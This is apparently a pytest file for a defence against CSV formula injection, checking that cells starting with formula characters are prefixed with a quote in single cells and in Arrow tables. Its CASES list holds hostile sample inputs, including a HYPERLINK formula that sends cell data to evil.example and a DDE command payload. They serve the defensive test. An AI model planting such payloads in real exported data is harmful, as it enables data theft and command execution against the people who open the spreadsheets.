"""Spreadsheet-safe CSV cells: formula starts neutralised, everything else untouched (cell and Arrow)."""

from __future__ import annotations

import pyarrow as pa
import pytest

from core.csv_cells import FORMULA_STARTS, neutralise_cell, neutralise_table

CASES = [
    ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("plain text", "plain text"),
    (" =1+1", " =1+1"),  # a leading space is text already
    ("a=b", "a=b"),
    ("'=quoted", "'=quoted"),
    ("", ""),
    ("\n=1", "\n=1"),
]


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_neutralise_cell(raw, expected):
    assert neutralise_cell(raw) == expected


@pytest.mark.parametrize("value", [None, 0, -5, 2.5, True, {"a": "=1"}])
def test_non_text_cells_are_untouched(value):
    assert neutralise_cell(value) is value


def test_every_formula_start_is_covered():
    assert all(neutralise_cell(start + "x").startswith("'") for start in FORMULA_STARTS)


def test_neutralise_table_matches_the_cell_rule_and_keeps_types():
    raws = [raw for raw, _ in CASES]
    table = pa.table(
        {
            "text": raws + [None],
            "large": pa.array(raws + [None], pa.large_string()),
            "dict": pa.array(raws + [None]).dictionary_encode(),
            "number": list(range(-len(raws), 0)) + [None],
        }
    )
    out = neutralise_table(table).to_pydict()
    expected = [neutralise_cell(r) for r in raws] + [None]
    assert out["text"] == out["large"] == out["dict"] == expected
    assert out["number"] == table.column("number").to_pylist()
    assert neutralise_table(table).schema.field("number").type == pa.int64()
